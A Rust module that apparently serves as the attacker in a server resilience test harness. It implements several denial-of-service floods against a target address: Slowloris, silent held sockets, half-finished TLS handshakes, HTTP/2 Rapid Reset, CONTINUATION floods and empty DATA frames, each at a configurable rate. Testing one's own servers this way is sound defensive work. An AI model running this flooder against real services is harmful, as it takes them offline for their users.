//! The attacker, a process of its own: opens connections and sends what no client library would, at a fixed rate.
//!
//! A connection that the server closes is opened anew. At the end one line says how much was done, for the harness.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout};

use crate::flood::{Flood, Rate};
use crate::wire;

/// How often due units are sent.
const TICK: Duration = Duration::from_millis(10);
/// A connection that waits in the server's backlog this long is given up.
const CONNECTS_WITHIN: Duration = Duration::from_secs(3);

/// What was done.
#[derive(Debug, Default)]
pub(crate) struct Deeds {
    opened: AtomicU64,
    refused: AtomicU64,
    closed: AtomicU64,
    open: AtomicU64,
    most_open: AtomicU64,
    sent: AtomicU64,
}

impl Deeds {
    fn opened(&self) {
        self.opened.fetch_add(1, Ordering::Relaxed);
        let open = self.open.fetch_add(1, Ordering::Relaxed) + 1;
        self.most_open.fetch_max(open, Ordering::Relaxed);
    }

    fn closed(&self) {
        self.closed.fetch_add(1, Ordering::Relaxed);
        self.open.fetch_sub(1, Ordering::Relaxed);
    }

    fn line(&self) -> String {
        let read = |count: &AtomicU64| count.load(Ordering::Relaxed);
        format!(
            "{} connections, {} at once, {} closed by the server, {} not taken, {} sent",
            read(&self.opened),
            read(&self.most_open),
            read(&self.closed),
            read(&self.refused),
            read(&self.sent)
        )
    }
}

/// Attacks for so long; answers what was done.
pub(crate) async fn run(flood: Flood, target: SocketAddr, lasts: Duration) -> String {
    let deeds = Arc::new(Deeds::default());
    let rate = flood.rate();
    let attack = async {
        match flood {
            Flood::SilentSockets => hold(target, rate, &deeds, Holding::Silent).await,
            Flood::TlsHandshake => hold(target, rate, &deeds, Holding::HalfAClientHello).await,
            Flood::Slowloris => hold(target, rate, &deeds, Holding::Drip).await,
            Flood::RapidReset | Flood::Continuation | Flood::EmptyData => {
                stream(flood, target, rate, &deeds).await;
            }
            Flood::Overload => {}
        }
    };
    timeout(lasts, attack).await.ok();
    deeds.line()
}

/// What a connection is held open with.
#[derive(Clone, Copy)]
enum Holding {
    /// Nothing at all.
    Silent,
    /// The beginning of a TLS handshake.
    HalfAClientHello,
    /// A byte a second: of the preface, or, every other connection, of the first call's headers.
    Drip,
}

/// Keeps so many connections open, beginning so many a second at most.
async fn hold(target: SocketAddr, rate: Rate, deeds: &Arc<Deeds>, holding: Holding) {
    let mut held = JoinSet::new();
    let began = Instant::now();
    for number in 0_u64.. {
        sleep_until(began + Duration::from_secs_f64(number as f64 / f64::from(rate.a_second))).await;
        while held.try_join_next().is_some() {}
        if held.len() >= rate.connections as usize {
            continue;
        }
        let deeds = Arc::clone(deeds);
        held.spawn(async move {
            let Some(connection) = connect(target, &deeds).await else { return };
            held_open(connection, holding, number % 2 == 0, &deeds).await;
            deeds.closed();
        });
    }
}

async fn connect(target: SocketAddr, deeds: &Deeds) -> Option<TcpStream> {
    match timeout(CONNECTS_WITHIN, TcpStream::connect(target)).await {
        Ok(Ok(connection)) => {
            deeds.opened();
            Some(connection)
        }
        _ => {
            deeds.refused.fetch_add(1, Ordering::Relaxed);
            None
        }
    }
}

/// Returns when the server has closed it.
async fn held_open(connection: TcpStream, holding: Holding, early: bool, deeds: &Deeds) {
    let (mut from, mut to) = connection.into_split();
    let dripping = async {
        let drops = match holding {
            Holding::Silent => Vec::new(),
            Holding::HalfAClientHello => {
                to.write_all(wire::HALF_A_CLIENT_HELLO).await.ok();
                Vec::new()
            }
            Holding::Drip if early => wire::OPENING.to_vec(),
            Holding::Drip => {
                to.write_all(wire::OPENING).await.ok();
                wire::charge(1)
            }
        };
        for byte in drops {
            if to.write_all(&[byte]).await.is_err() {
                break;
            }
            deeds.sent.fetch_add(1, Ordering::Relaxed);
            sleep(Duration::from_secs(1)).await;
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        biased;
        () = closed(&mut from) => {}
        () = dripping => {}
    }
}

/// Swallows what the server says until it has closed.
async fn closed(from: &mut (impl AsyncReadExt + Unpin)) {
    let mut heard = [0_u8; 1024];
    while from.read(&mut heard).await.is_ok_and(|bytes| bytes > 0) {}
}

/// Sends so many units a second over so many connections.
async fn stream(flood: Flood, target: SocketAddr, rate: Rate, deeds: &Arc<Deeds>) {
    let mut lanes = JoinSet::new();
    for lane in 0..rate.connections {
        let deeds = Arc::clone(deeds);
        let each = f64::from(rate.a_second) / f64::from(rate.connections);
        lanes.spawn(async move {
            // Half of them save their units up and send them at once: more than a server takes up between two reads.
            let tick = if lane % 2 == 0 { TICK } else { TICK * 100 };
            loop {
                if let Some(connection) = connect(target, &deeds).await {
                    send(connection, flood, each, tick, &deeds).await;
                    deeds.closed();
                }
                // What a closed connection would have sent is not made up for.
                sleep(TICK).await;
            }
        });
    }
    lanes.join_all().await;
}

/// Sends until the server closes.
async fn send(connection: TcpStream, flood: Flood, rate: f64, tick: Duration, deeds: &Deeds) {
    let (mut from, mut to) = connection.into_split();
    let sending = async {
        let mut opening = wire::OPENING.to_vec();
        match flood {
            Flood::Continuation => opening.extend(wire::charge_to_be_continued(1)),
            Flood::EmptyData => opening.extend(wire::charge(1)),
            _ => {}
        }
        to.write_all(&opening).await?;
        let (began, mut sent) = (Instant::now(), 0_u32);
        loop {
            sleep(tick).await;
            let due = (began.elapsed().as_secs_f64() * rate) as u32;
            let mut bytes = Vec::new();
            for unit in sent..due {
                // Clients' streams have odd numbers; 1 is the opening's.
                let fresh = 2 * unit + 3;
                match flood {
                    Flood::Continuation => bytes.extend(wire::continuation(1)),
                    Flood::EmptyData => bytes.extend(wire::empty_data(1)),
                    _ => {
                        bytes.extend(wire::charge(fresh));
                        bytes.extend(wire::reset(fresh));
                    }
                }
            }
            to.write_all(&bytes).await?;
            deeds.sent.fetch_add(u64::from(due - sent), Ordering::Relaxed);
            sent = due;
        }
    };
    tokio::select! {
        biased;
        () = closed(&mut from) => {}
        _ = async { let ended: std::io::Result<()> = sending.await; ended } => {}
    }
}
